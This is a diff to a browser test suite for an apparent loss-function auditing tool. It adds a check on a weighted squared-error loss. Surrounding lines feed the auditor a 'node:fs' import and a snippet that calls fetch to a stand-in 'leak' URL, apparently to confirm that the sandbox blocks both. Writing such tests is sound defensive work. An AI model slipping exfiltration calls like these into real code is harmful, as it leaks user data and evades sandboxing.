@@ -99,6 +99,14 @@ browserTest(
       await setLoss(page, 'import fs from "node:fs";\nexport default () => fs;');
       await pressButton(page, "Audit this loss");
       await saying(page, /Cannot load 'node:fs'/);
+      await setLoss(
+        page,
+        "(y: tf.Tensor, p: tf.Tensor) => tf.mean(tf.mul(y.slice([0, 1], [-1, 1]), tf.square(tf.sub(y.slice([0, 0], [-1, 1]), p))))",
+      );
+      await page.select(".fields .field:nth-child(3) select", "weight");
+      await pressButton(page, "Audit this loss");
+      await saying(page, / is sound /);
+      await page.select(".fields .field:nth-child(3) select", "");
       const fetches =
         'fetch("https://example.org/?leak").catch(() => {});\nconst f = (a: tf.Tensor, b: tf.Tensor): tf.Tensor => tf.mean(tf.abs(tf.sub(a, b)));';
       await setLoss(page, fetches);
